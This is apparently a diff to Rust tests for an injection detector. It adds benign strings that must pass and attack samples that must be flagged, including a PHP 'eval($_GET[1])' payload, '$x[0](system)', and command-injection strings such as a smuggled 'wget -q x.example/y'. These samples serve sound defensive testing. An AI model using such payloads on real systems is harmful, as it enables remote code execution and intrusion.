@@ -40,6 +40,9 @@ fn honest_words_pass() {
             "It rains; sort should wait, then",
             "Read it on the command line with care; time is short",
             "query Q($k: ID!) { user(id: $k) { name } }",
+            "Read [our notes](https://notes.example/a#b), or [CHANGES.md](CHANGES.md)",
+            "It calls `ship-tool update --all-ports x`, and its `Hull::new(4)` type. Sort it",
+            "Put it on the file (with or without a lid), and on the small red command line of it",
         ] {
             assert_eq!(json(text).inspect_by(&detector), [], "{text}");
         }
@@ -64,6 +67,8 @@ fn their_neighbours_do_not() {
             ("zsh is -c id", Attack::Cmdi),
             ("perl -e 'print 1'", Attack::Cmdi),
             ("It rains; wget -q x.example/y", Attack::Cmdi),
+            ("$x[0](system)", Attack::CodeInjection),
+            ("file (with or without a lid); eval($_GET[1])", Attack::CodeInjection),
             ("the time is up; wget -q x.example/y", Attack::Cmdi),
         ] {
             let found: Vec<_> = json(text).inspect_by(&detector).iter().map(|found| found.attack).collect();
